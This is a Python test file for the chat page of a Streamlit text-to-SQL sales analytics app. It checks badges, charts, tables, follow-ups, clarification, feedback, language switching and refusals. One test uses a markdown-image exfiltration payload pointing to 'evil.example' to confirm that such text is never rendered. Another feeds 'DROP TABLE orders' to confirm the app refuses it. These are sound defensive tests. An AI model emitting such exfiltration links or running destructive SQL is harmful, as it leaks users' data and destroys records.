"""The Chat page through AppTest: ask, follow-up, clarification click, feedback, safety, language."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import streamlit as st

from tests.ui.helpers import ask, badges, texts


def feedback_lines(home: Path) -> list[dict]:
    path = home / "home" / "feedback.jsonl"
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()] if path.exists() else []


def test_first_visit_shows_examples_and_the_as_of_date(make_app):
    at = make_app()
    labels = [b.label for b in at.button]
    assert "2025年各地区的销售额" in labels
    assert any(c.value == "数据截止日: 2025-12-31" for c in at.sidebar.caption)
    assert any(c.value == "数据截止日: 2025-12-31" for c in at.main.caption), "also on the page itself"
    assert at.chat_input[0].proto.submit_mode == "disable" or at.chat_input[0].proto.submit_mode == 1
    assert at.chat_input[0].proto.max_chars == 500


def test_ask_shows_chips_chart_table_narrative_sql_and_downloads(make_app):
    at = ask(make_app(), "2025年各地区的销售额")
    chips = badges(at)
    assert ":blue-badge[指标: 销售额]" in chips
    assert ":green-badge[维度: 地区]" in chips
    assert any(c.startswith(":violet-badge[时间: 2025") and "2025\\-12\\-31" in c for c in chips)
    spec = json.loads(at.get("vega_lite_chart")[0].proto.spec)
    assert spec["mark"]
    frame = at.dataframe[0].value
    assert list(frame.columns) == ["地区", "销售额 (CNY)"]
    assert "华东" in set(frame["地区"]) and len(frame) == 7
    assert any("华东" in t and "2025" in t for t in texts(at)), "narrative shown as plain text"
    assert any("SELECT" in c.value for c in at.code), "SQL in an expander"
    assert [d.proto.label for d in at.get("download_button")] == ["下载 CSV", "下载 Excel"]
    assert not at.chat_input[0].disabled, "input enabled again after the run"


def test_follow_up_refines_the_previous_question(make_app):
    at = ask(ask(make_app(), "2025年各地区的销售额"), "按销售渠道呢?")
    assert len(at.dataframe) == 2
    assert at.dataframe[1].value.columns[0] == "销售渠道"
    assert sum("2025\\-12\\-31" in c for c in badges(at)) == 2, "the follow-up kept the time range"


def test_clarification_offers_candidates_and_a_click_re_asks(make_app):
    at = ask(make_app(), "渠道的销售额")
    assert "需要澄清" in [c.value for c in at.caption]
    assert len(at.dataframe) == 0
    candidates = [b for b in at.button if b.label in ("获客渠道", "销售渠道")]
    assert len(candidates) == 2
    next(b for b in candidates if b.label == "销售渠道").click().run()
    assert not at.exception
    messages = at.session_state["chat"]["messages"]
    assert messages[-1]["question"] == "销售渠道的销售额"
    assert messages[-1]["answer"]["status"] == "ok"
    assert at.dataframe[0].value.columns[0] == "销售渠道"


def test_example_button_asks_it(make_app):
    at = make_app()
    next(b for b in at.button if b.label == "今年每月的活跃客户数").click().run()
    assert at.session_state["chat"]["messages"][0]["answer"]["status"] == "ok"
    frame = at.dataframe[0].value
    assert frame.columns[0] == "月份"
    assert frame["月份"].tolist()[:2] == ["2025-01", "2025-02"], "periods read as periods"


def test_feedback_up_and_down_with_a_correction(make_app, ui_env):
    at = ask(make_app(), "2025年各地区的销售额")
    at.button(key=f"up_{at.session_state['chat']['messages'][0]['id']}").click().run()
    assert "感谢反馈!" in [c.value for c in at.caption]
    ask(at, "按销售渠道呢?")
    second = at.session_state["chat"]["messages"][1]["id"]
    at.button(key=f"down_{second}").click().run()
    at.text_area(key=f"correction_{second}").input("应该只看线上渠道").run()
    at.button(key=f"send_{second}").click().run()
    records = feedback_lines(ui_env)
    assert [r["rating"] for r in records] == ["up", "down"]
    assert records[1]["correction"] == "应该只看线上渠道"
    assert records[1]["context"] == ["2025年各地区的销售额"], "a follow-up keeps its conversation"
    assert records[1]["semantic_query"]["dimensions"] == ["sales_channel"]


def test_model_and_user_text_never_render_as_markdown(make_app):
    at = ask(make_app(), "![x](http://evil.example/?leak=1) 的销售额")
    for md in at.markdown:
        assert "](http" not in md.value and "<img" not in md.value, md.value
    assert any("![x](http://evil.example/?leak=1)" in t for t in texts(at)), "shown verbatim as plain text"


def test_input_is_disabled_while_a_question_runs(make_app, monkeypatch):
    import ui.chat_view

    def stop_midway(*args, **kwargs):
        st.stop()  # freeze the page as it looks while the answer is being computed

    monkeypatch.setattr(ui.chat_view, "ask_in_session", stop_midway)
    at = ask(make_app(), "2025年各地区的销售额")
    assert at.chat_input[0].disabled
    assert at.get("status"), "progress is shown"


def test_english_ui_and_english_answer(make_app):
    at = make_app()
    at.sidebar.radio[0].set_value("en").run()
    assert "revenue by month in 2025" in [b.label for b in at.button]
    assert any(c.value == "Data as of: 2025-12-31" for c in at.main.caption)
    ask(at, "revenue by month in 2025")
    chips = badges(at)
    assert ":blue-badge[Metric: Revenue]" in chips and ":violet-badge[Grain: Month]" in chips
    assert list(at.dataframe[0].value.columns) == ["Month", "Revenue (CNY)"]
    assert [d.proto.label for d in at.get("download_button")] == ["Download CSV", "Download Excel"]


def test_clear_conversation(make_app):
    at = ask(make_app(), "2025年各地区的销售额")
    at.button(key="clear_chat").click().run()
    assert at.session_state["chat"]["messages"] == []
    assert "2025年各地区的销售额" in [b.label for b in at.button], "examples again"


@pytest.mark.parametrize("question", ["删除所有订单", "DROP TABLE orders"])
def test_refusals_are_shown_without_running_anything(make_app, question):
    at = ask(make_app(), question)
    answer = at.session_state["chat"]["messages"][0]["answer"]
    assert answer["status"] == "refused" and answer["sql"] is None
    assert "无法回答" in [c.value for c in at.caption]
    assert len(at.dataframe) == 0
